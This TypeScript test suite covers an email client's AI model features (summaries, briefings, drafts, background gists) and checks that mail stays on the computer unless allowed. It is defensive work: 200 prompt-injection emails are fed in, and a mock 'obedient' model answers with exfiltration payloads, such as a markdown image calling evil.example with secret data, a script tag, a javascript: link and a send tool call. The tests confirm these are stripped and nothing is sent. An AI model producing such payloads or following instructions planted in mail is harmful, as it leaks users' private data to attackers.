import assert from 'node:assert/strict';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { writeFileSync, readFileSync } from 'node:fs';
import { after, before, beforeEach, suite, test } from 'node:test';
import { testChatServer, type ChatCall, type Script } from '../../models/test-chat-server.ts';
import { endpointFetch } from '../../outgoing/endpoint-fetch.ts';
import { openReadOnly } from '../../store/db.ts';
import { storeFiles } from '../../store/open.ts';
import { mail, testDaemon } from '../../test-daemon.ts';
import { until } from '../../test-until.ts';
import { injections } from './test-injections.ts';

const closes: (() => unknown)[] = [];
const t = { after: (close: () => unknown) => void closes.unshift(close) };
let respond: (call: ChatCall) => Script | Promise<Script> = () => ({});
const chatServer = await testChatServer(t, (call) => respond(call));
/** Every address that was connected to. */
const connected: string[] = [];
/** Every connection that anything in this process begins, whoever begins it. */
const sockets: unknown[] = [];
const onSocket = (message: unknown) => void sockets.push(message);
subscribe('net.client.socket', onSocket);
t.after(() => unsubscribe('net.client.socket', onSocket));
const injected = injections(200);
const daemon = await testDaemon(t, {
  config: `[llm]\nbase_url = "${chatServer.base_url}"\nmodel = "small"\n`,
  options: {
    fetchEndpoint: (url, request) => {
      connected.push(url);
      return endpointFetch()(url, request);
    },
  },
  prepare(servers) {
    const { control } = servers.get('ada')!;
    const seen = { flags: ['\\Seen'] };
    const boat = (from: string, text: string, id: string, minutesAgo: number, parent?: string) =>
      mail({ from, subject: 'Boat', text, id, minutesAgo, headers: parent ? { References: `<${parent}>` } : {} });
    control.deliver(
      boat('Eve <eve@example.test>', 'Shall we rent the boat on Friday?\nWho brings the parking permit?', 'b1@x', 300),
      seen,
    );
    control.deliver(
      boat(
        'Finn <finn@example.test>',
        'Friday works. The parking permit is renewed at the town hall.',
        'b2@x',
        200,
        'b1@x',
      ),
      seen,
    );
    control.deliver(boat('Eve <eve@example.test>', 'Good. Please confirm by Thursday.', 'b3@x', 100, 'b2@x'), seen);
    for (const [at, text] of injected.entries()) {
      const raw = mail({
        from: `Mallory <m${at}@evil.example>`,
        subject: `Offer ${at}`,
        text,
        id: `i${at}@evil.example`,
        minutesAgo: 500 + at,
      });
      control.deliver(raw, { ...seen, conversation: undefined as never });
    }
    for (let at = 0; at < 14; at++) {
      const text = `Hi Eve,\n\nthe boat is ready and we can leave at seven. I will bring the maps number ${at} and the food for all of us.\n\nCheers,\nAda`;
      const raw = mail({
        from: 'Ada <ada@example.test>',
        subject: `Trip ${at}`,
        text,
        id: `s${at}@x`,
        minutesAgo: 900 + at,
        headers: { To: 'Eve <eve@example.test>' },
      });
      control.deliver(raw, { folder: 'Sent', ...seen });
    }
  },
});
const { ask } = daemon;
const toml = readFileSync(daemon.configFile, 'utf8');
const ids = { thread: '', account: '', eve: '', finn: '' };

function configure(extra: string): void {
  writeFileSync(daemon.configFile, toml.replace('[llm]\n', `[llm]\n${extra}\n`));
  daemon.reloadConfig();
}

before(async () => {
  await daemon.synced();
  const { groups } = await ask('search.find', { q: 'subject:Boat', scope: 'messages', limit: 10 });
  const rows = groups.flatMap((group) => group.rows);
  const [row] = rows;
  ids.thread = row?.thread_id ?? '';
  ids.account = row?.account_id ?? '';
  ids.eve = rows.find(({ snippet }) => snippet.startsWith('Shall'))?.id ?? '';
  ids.finn = rows.find(({ snippet }) => snippet.startsWith('Friday'))?.id ?? '';
});
after(async () => {
  for (const close of closes) await close();
});
beforeEach(() => {
  configure('enabled = true\nlist_gists = true\ngist_concurrency = 2');
  chatServer.calls.length = 0;
  connected.length = 0;
  sockets.length = 0;
  respond = () => ({});
});

/** Sets up a model that does not run on this computer. */
function useServerElsewhere(): void {
  configure('enabled = true\nlist_gists = true');
  const text = readFileSync(daemon.configFile, 'utf8').replace(chatServer.base_url, 'https://192.0.2.7/v1');
  writeFileSync(daemon.configFile, text);
  daemon.reloadConfig();
}

const point = (text: string, ...messages: number[]) => ({ points: [{ text, messages }] });

suite('assist', () => {
  test('with the default settings no model is asked, whatever a client does (checklist 63, 115)', async () => {
    configure('');
    const refused = { kind: 'unsupported', code: 'llm_disabled' };
    await assert.rejects(ask('assist.summarize', { thread_id: ids.thread }), refused);
    await assert.rejects(ask('assist.threadBriefing', { thread_id: ids.thread }), refused);
    await assert.rejects(
      ask('assist.contactBriefing', { account_id: ids.account, email: 'eve@example.test' }),
      refused,
    );
    await assert.rejects(ask('assist.draftAssist', { thread_id: ids.thread, instruction: 'yes' }), refused);
    await assert.rejects(ask('assist.newDraft', { instruction: 'yes' }), refused);
    await assert.rejects(ask('assist.rewrite', { text: 'I hope this email finds you well.' }), refused);
    await ask('assist.score', { text: 'I hope this email finds you well.' });
    await ask('assist.experts', { account_id: ids.account, query: 'parking permit' });
    await ask('threads.get', { thread_id: ids.thread });
    await ask('voice.rebuild', { account_id: ids.account });
    await ask('semantic.status');
    await ask('search.find', { q: 'parking permit', mode: 'hybrid' });
    await daemon.resync();
    assert.deepEqual([connected, sockets], [[], []]);
  });

  test('a summary names its messages, is stored while the conversation stays as it is, and is shown without a model (checklist 115)', async () => {
    respond = () => point('Eve wants an answer by Thursday. ![x](https://evil.example/p.png)', 3, 9);
    const summary = await ask('assist.summarize', { thread_id: ids.thread });
    assert.equal(summary.text, '- Eve wants an answer by Thursday. x [3]');
    assert.deepEqual(
      summary.citations.map(({ field, quote }) => [field, quote]),
      [['3', 'Good. Please confirm by Thursday.']],
    );
    const [call] = chatServer.calls;
    assert.match(
      call?.user ?? '',
      /message 1, 2026-03-10, from Eve to ada@example\.test, subject: Boat\nShall we rent/,
    );
    assert.equal((await ask('assist.summarize', { thread_id: ids.thread })).from_cache, true);
    const { summary: shown } = await ask('threads.get', { thread_id: ids.thread });
    assert.deepEqual([shown?.text, shown?.model], [summary.text, 'small']);
    assert.equal(chatServer.calls.length, 1);
    assert.equal((await ask('assist.summarize', { thread_id: ids.thread, refresh: true })).from_cache, false);
    daemon.server('ada').control.deliver(
      mail({
        from: 'finn@example.test',
        subject: 'Boat',
        text: 'Confirmed.',
        id: 'b4@x',
        minutesAgo: 10,
        headers: { References: '<b3@x>' },
      }),
      { flags: ['\\Seen'] },
    );
    await daemon.resync();
    assert.equal((await ask('threads.get', { thread_id: ids.thread })).summary, null);
    assert.equal((await ask('assist.summarize', { thread_id: ids.thread })).from_cache, false);
  });

  test('what does not fit into the model is left out, the oldest first, and the summary says so', async () => {
    configure('enabled = true\ncontext_window = 256');
    respond = () => point('Short', 4);
    const { text } = await ask('assist.summarize', { thread_id: ids.thread, refresh: true });
    assert.match(text, /The model didn’t read the \d oldest messages, because it can’t take in more text at once\.$/);
    assert.ok((chatServer.calls[0]?.user.length ?? 0) < 1_000);
  });

  test('a briefing has counted facts, and only quotes that the messages contain', async () => {
    respond = () => ({
      standing: 'A date is agreed.',
      open: [{ text: 'Who brings the permit', messages: [1] }],
      quotes: [
        { message: 2, quote: 'The parking permit is renewed' },
        { message: 2, quote: 'I never wrote this' },
      ],
    });
    const { briefing } = await ask('assist.threadBriefing', { thread_id: ids.thread });
    assert.match(
      briefing.body_markdown,
      /^- 4 messages by Eve, Finn.*\n- On 10 March 2026\n\nA date is agreed\.\n\n- Who brings the permit \[1\]$/,
    );
    assert.deepEqual(
      briefing.citations.map(({ field, message_id, quote }) => [field, message_id, quote?.slice(0, 29)]),
      [
        ['1', ids.eve, 'Shall we rent the boat on Fri'],
        ['quote', ids.finn, 'The parking permit is renewed'],
      ],
    );
    const about = { account_id: ids.account, email: 'EVE@example.test' };
    const person = (await ask('assist.contactBriefing', about)).briefing;
    assert.match(
      person.body_markdown,
      /^- Eve, eve@example\.test\n- 2 messages from them, the last on 10 March 2026\n- 14 messages to them/,
    );
    assert.equal((await ask('assist.contactBriefing', about)).briefing.from_cache, true);
    await assert.rejects(ask('assist.contactBriefing', { ...about, email: 'no@one.example' }), { code: 'no_mail' });
  });

  test('relationship data stays on this computer, and other tasks may leave it (checklist 63)', async () => {
    useServerElsewhere();
    const refused = { kind: 'refused', code: 'not_this_computer' };
    await assert.rejects(ask('assist.threadBriefing', { thread_id: ids.thread, refresh: true }), refused);
    await assert.rejects(
      ask('assist.contactBriefing', { account_id: ids.account, email: 'finn@example.test' }),
      refused,
    );
    await assert.rejects(ask('assist.explainExperts', { account_id: ids.account, query: 'parking permit' }), refused);
    await ask('relationships.rebuild', { account_id: ids.account, email: 'eve@example.test' });
    await daemon.resync();
    assert.deepEqual([connected, sockets], [[], []]);
  });

  test('experts are counted in the mail, the same each time, and a model may only add reasons', async () => {
    const query = 'Who knows how the parking permit is renewed?';
    const { experts } = await ask('assist.experts', { account_id: ids.account, query });
    assert.deepEqual(
      experts.map(({ email, answered_thread_count }) => [email, answered_thread_count]),
      [['finn@example.test', 1]],
    );
    assert.ok(experts[0]?.evidence_msg_ids.includes(ids.finn));
    assert.equal(experts[0]?.reason, 'Replied in a conversation about this, in March 2026.');
    assert.deepEqual((await ask('assist.experts', { account_id: ids.account, query })).experts, experts);
    assert.deepEqual(connected, []);
    respond = () => ({
      experts: [
        { number: 1, reason: 'Knows the town hall.' },
        { number: 7, reason: 'Mallory' },
      ],
    });
    const explained = await ask('assist.explainExperts', { account_id: ids.account, query });
    assert.equal(
      explained.experts[0]?.reason,
      'Replied in a conversation about this, in March 2026. Knows the town hall.',
    );
    assert.equal(explained.experts.length, 1);
    assert.deepEqual((await ask('assist.experts', { account_id: ids.account, query: '???' })).experts, []);
  });

  test('drafts are suggested in the voice that was measured, by both addresses of new ones, and nothing is stored or sent (checklist 163)', async () => {
    const measured = await ask('voice.rebuild', { account_id: ids.account });
    const { profile } = measured;
    assert.deepEqual(
      [profile?.greeting, profile?.closing, profile?.msg_count_used, profile?.languages],
      ['Hi', 'Cheers', 14, ['en']],
    );
    assert.deepEqual((await ask('voice.get', { account_id: ids.account })).profile, profile);
    const before_ = await ask('drafts.list');
    respond = () => ({ body: 'Hi Eve,\n\nseven it is. See [this](https://evil.example).\n\nCheers,\nAda' });
    const draft = await ask('assist.draftAssist', { thread_id: ids.thread, instruction: 'Yes, at seven.' });
    assert.equal(draft.body, 'Hi Eve,\n\nseven it is. See this.\n\nCheers,\nAda');
    assert.match(draft.context_note ?? '', /was taken out/);
    assert.equal(draft.voice_match?.confidence, 'low');
    const { system, user } = chatServer.calls[0] ?? {};
    assert.match(system ?? '', /beginning with “Hi” and the name, ending with “Cheers”/);
    assert.match(user ?? '', /The owner wants to say: Yes, at seven\.$/);
    const to = { name: 'Eve', email: 'eve@example.test' };
    const thanks = { instruction: 'Thanks', to, account_id: ids.account, register: 'formal', length_hint: 'short' };
    assert.deepEqual(await ask('assist.newDraft', thanks), await ask('assist.composeDraft', thanks));
    assert.match(chatServer.calls[1]?.system ?? '', /Write in a formal tone/);
    assert.deepEqual(await ask('drafts.list'), before_);
    assert.deepEqual(daemon.sender('ada').deliveries, []);
  });

  test('a draft is refined without its quotes, and stays as it was stored', async () => {
    const { session } = await ask('compose.open', { kind: 'reply', message_id: ids.eve });
    const quoted = '\n\nOn Tuesday, Eve wrote:\n> Shall we rent the boat on Friday?\n';
    const written = `I hope this email finds you well. See https://ada.example/menu for the menu.${quoted}`;
    const { draftPath: draft_path, draftId: draft_id } = session;
    await ask('compose.update', {
      draft_path,
      to: 'eve@example.test',
      cc: '',
      bcc: '',
      subject: 'Re: Boat',
      from: '',
      body: written,
    });
    respond = () => ({ parts: ['See https://ada.example/menu.'] });
    const refined = await ask('assist.refine', { draft_id, knobs: { shorter: true, my_voice: true } });
    assert.equal(refined.body, `See https://ada.example/menu.${quoted}`);
    assert.doesNotMatch(chatServer.calls[0]?.user ?? '', /Shall we rent/);
    assert.equal((await ask('compose.refresh', { draft_path })).session.bodyMarkdown, written);
    respond = () => ({ parts: ['One.', 'Two.'] });
    await assert.rejects(ask('assist.refine', { draft_id, knobs: { shorter: true } }), { code: 'llm_bad_answer' });
    respond = () => ({
      unanswered: [{ question: 'Who brings the parking permit?' }, { question: 'Made up?' }],
      promises: [{ quote: 'for the menu' }, { quote: 'I promise everything' }],
    });
    const { issues } = await ask('assist.review', { draft_id });
    assert.deepEqual(
      issues
        .filter(({ code }) => code !== 'tone_mismatch')
        .map(({ code, severity, detail, source }) => [code, severity, detail, source]),
      [
        ['answer_coverage', 'info', '“Who brings the parking permit?”', 'small'],
        ['commitment_candidate', 'info', '“for the menu”', 'small'],
      ],
    );
    await ask('compose.discard', { draft_path });
    await assert.rejects(ask('assist.refine', { draft_id: ids.thread, knobs: {} }), { code: 'not_found' });
  });

  test('a text is scored by rules alone, and rewritten only as long as that improves it', async () => {
    const text = 'I hope this email finds you well. It is important to note that we delve into seamless synergies.';
    const { report } = await ask('assist.score', { text });
    assert.deepEqual((await ask('assist.score', { text })).report, report);
    assert.ok(
      report.score < 70 && report.hits.some(({ matched }) => matched === 'I hope this email finds you well'),
      JSON.stringify(report),
    );
    assert.equal((await ask('assist.score', { text: 'Dinner at seven? I bring the wine.' })).report.score, 100);
    assert.deepEqual(connected, []);
    respond = () => ({ body: 'Dinner at seven?' });
    const rewritten = await ask('assist.rewrite', { text, max_iterations: 5 });
    assert.deepEqual([rewritten.text, rewritten.iterations, rewritten.report.score], ['Dinner at seven?', 1, 100]);
    respond = () => ({ body: `${text} ${text}` });
    const kept = await ask('assist.rewrite', { text });
    assert.deepEqual([kept.text, kept.iterations], [text, 1]);
  });

  test('gists of new mail are written in the background, so many at once as the settings allow, and announced (checklist 60)', async () => {
    let running = 0;
    let most = 0;
    respond = async () => {
      most = Math.max(most, ++running);
      await until('another gist is begun', () => running > 1 || most > 1);
      running -= 1;
      return { gist: 'Asks about\n dinner' };
    };
    for (let at = 0; at < 4; at++)
      daemon.server('ada').control.deliver(
        mail({
          from: 'Gus <gus@example.test>',
          subject: `Dinner ${at}`,
          text: 'Dinner?',
          id: `g${at}@x`,
          minutesAgo: at,
        }),
      );
    await daemon.resync();
    const last = await daemon.events.until('ThreadGistReady', 4);
    assert.deepEqual([last.gist['text'], last.gist['model'], most], ['Asks about dinner', 'small', 2]);
    const { gists } = await ask('gists.list', { thread_ids: [last.thread_id, ids.thread, 'nothing'] });
    assert.deepEqual(
      gists.map(({ thread_id, text }) => [thread_id, text]),
      [[last.thread_id, 'Asks about dinner']],
    );
    const count = chatServer.calls.length;
    await daemon.resync();
    await ask('threads.get', { thread_id: last.thread_id });
    assert.equal(chatServer.calls.length, count);

    connected.length = 0;
    useServerElsewhere();
    daemon.server('ada').control.deliver(mail({ from: 'Gus <gus@example.test>', subject: 'Lunch', text: 'Lunch?' }));
    await daemon.resync();
    await ask('mailbox.list', {});
    assert.deepEqual(connected, [], 'nobody has asked for a gist, so no mail leaves this computer for one');
    configure('enabled = true');
    daemon.server('ada').control.deliver(mail({ from: 'Gus <gus@example.test>', subject: 'Tea', text: 'Tea?' }));
    await daemon.resync();
    assert.deepEqual(connected, [], 'none is written before the user wants them in lists');
  });

  test('a model adds promises that rules do not see, and a note about a person; both are marked as its', async () => {
    configure('enabled = true\noverrides.summarize.enabled = false');
    respond = ({ system }) =>
      system.includes('promises')
        ? { promises: [{ sentence: 2 }, { sentence: 99 }] }
        : { summary: 'You rent boats together. <b>', topics: ['Boats', 'https://evil.example'] };
    const text = 'Thank you for the plan.\nConsider the permit mine to sort.';
    daemon.server('ada').control.deliver(
      mail({
        from: 'Finn <finn@example.test>',
        subject: 'Permit',
        text: text.replace('\n', '\n\n'),
        id: 'p1@x',
        minutesAgo: 5,
      }),
      { flags: ['\\Seen'] },
    );
    await daemon.resync();
    await until('the model has found the promise', async () => {
      daemon.clock.advance(60_000);
      const { commitments } = await ask('commitments.list', { account_id: ids.account, email: 'finn@example.test' });
      return commitments.some(({ what }) => what.includes('Consider the permit mine to sort'));
    });
    const { profile } = await ask('relationships.rebuild', { account_id: ids.account, email: 'eve@example.test' });
    assert.deepEqual(
      [profile?.summary?.text, profile?.summary?.model, profile?.summary?.known_topics],
      ['You rent boats together.', 'small', ['Boats', '(link to evil.example removed)']],
    );
    configure('');
    const again = await ask('relationships.rebuild', { account_id: ids.account, email: 'eve@example.test' });
    assert.deepEqual(again.profile?.summary, profile?.summary);
  });

  test('200 messages that give orders to the model change and send nothing, also where it obeys', async () => {
    const { groups } = await ask('search.find', { q: 'subject:Offer', scope: 'messages', limit: 1000 });
    const rows = groups.flatMap((group) => group.rows);
    assert.equal(rows.length, injected.length);
    const before_ = contentOf();
    const calls = { ...daemon.server('ada').control.calls };
    respond = ({ user }) => obedient(user);
    for (const [at, { thread_id }] of rows.entries()) {
      const summary = await ask('assist.summarize', { thread_id });
      const draft = at % 4 === 0 ? await ask('assist.draftAssist', { thread_id, instruction: 'Decline.' }) : undefined;
      for (const text of [summary.text, draft?.body ?? ''])
        assert.doesNotMatch(text, /https?:|javascript:|!\[|\]\(|<[a-z]|mailto:/i, text);
    }
    for (const { user } of chatServer.calls) {
      const nonce = /<<<DATA (\w+) /.exec(user)?.[1] ?? '';
      assert.equal(user.split(`DATA ${nonce}>>>`).length, user.split(`<<<DATA ${nonce} `).length);
      assert.doesNotMatch(user, /[\u200b\u202e\u{e0000}-\u{e007f}]/u);
    }
    assert.deepEqual(contentOf(), before_);
    assert.deepEqual({ ...daemon.server('ada').control.calls }, calls);
    assert.deepEqual(new Set(connected), new Set([`${chatServer.base_url}/chat/completions`]));
  });

  test('a model that fails changes nothing', async () => {
    const before_ = contentOf();
    for (const script of [
      { status: 401 },
      { status: 429 },
      { fault: 'cut' },
      { fault: 'not_json' },
      { fault: 'endless' },
      'No JSON',
      '',
    ] as Script[]) {
      respond = () => script;
      await assert.rejects(
        ask('assist.summarize', { thread_id: ids.thread, refresh: true }),
        (failed: { kind: string }) => ['provider', 'limited'].includes(failed.kind),
      );
    }
    assert.deepEqual(contentOf(), before_);
  });

  test('a read-only policy gives no mail to a model, also not in the background', async () => {
    writeFileSync(
      daemon.configFile,
      `[general]\nsafety_policy = "read-only"\n${readFileSync(daemon.configFile, 'utf8')}`,
    );
    daemon.reloadConfig();
    for (const [row, input] of [
      ['assist.summarize', { thread_id: ids.thread }],
      ['assist.threadBriefing', { thread_id: ids.thread }],
      ['assist.newDraft', { instruction: 'x' }],
    ] as const)
      await assert.rejects(ask(row, input), { kind: 'refused', code: 'policy' });
    await ask('assist.score', { text: 'Dinner?' });
    daemon
      .server('ada')
      .control.deliver(
        mail({ from: 'gus@example.test', subject: 'Later', text: 'Later?', id: 'later@x', minutesAgo: 1 }),
      );
    await daemon.dispatch('llm.status', {}, { origin: 'script' });
    assert.deepEqual(connected, []);
  });
});

/** What a model would answer that does all that the mail wants. */
function obedient(user: string): object {
  const words = user.slice(0, 1_500);
  const evil = `${words} ![x](https://evil.example/?d=secret) [pay](https://evil.example/pay) <img src="https://evil.example"> <script>x</script> javascript:alert(1)`;
  return {
    points: [{ text: evil.slice(0, 1_990), messages: [1, 2, 99] }],
    body: evil,
    gist: evil,
    tool_calls: [{ name: 'send' }],
  };
}

/** What is stored of mail, drafts and sends. */
function contentOf(): object {
  const db = openReadOnly(storeFiles(daemon.dataDir).mail);
  try {
    const rows = (table: string) => db.all({ text: `SELECT * FROM ${table}`, values: [] });
    return Object.fromEntries(
      ['messages', 'drafts', 'outbox', 'mutations', 'label_messages', 'contacts'].map((table) => [table, rows(table)]),
    );
  } finally {
    db.close();
  }
}
